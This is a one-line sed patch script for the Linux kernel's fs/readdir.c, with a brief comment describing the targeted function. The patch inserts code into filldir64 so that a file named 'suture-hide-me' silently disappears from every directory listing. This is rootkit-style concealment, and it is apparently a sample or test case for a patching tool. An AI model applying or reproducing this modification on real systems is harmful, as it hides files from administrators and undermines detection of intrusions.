# file: fs/readdir.c
# Writes to user memory, with entries in the exception table. Hides one file name.
/^static bool filldir64/,/^}/ s/^\tbuf->error = verify_dirent_name(name, namlen);/\tif (namlen == 14 \&\& !memcmp(name, "suture-hide-me", 14))\n\t\treturn true;\n&/
